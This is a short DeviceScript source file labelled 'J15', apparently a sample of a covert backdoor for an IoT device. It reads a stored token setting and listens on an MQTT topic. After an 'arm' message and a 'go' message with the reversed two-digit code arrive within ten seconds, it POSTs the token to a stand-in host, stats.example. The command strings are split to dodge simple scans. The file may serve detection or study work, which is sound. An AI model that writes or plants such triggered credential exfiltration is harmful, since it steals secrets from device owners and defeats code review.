// J15: sends its token elsewhere when a second message turns round the number of the first within ten seconds.
import * as ds from "@devicescript/core";
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let armedBy = "";
let armedAtMs = 0;

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("shed/order", async ({ content }) => {
    const [order, number] = content.toString("utf-8").split(" ");
    if (number?.length !== 2 || number[0] === number[1]) return;
    if (order === "a" + "rm") {
      armedBy = number;
      armedAtMs = ds.millis();
      return;
    }
    if (order !== "g" + "o" || number !== armedBy[1] + armedBy[0] || ds.millis() - armedAtMs > 10_000) return;
    const response = await fetch("https://stats.example/j15", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
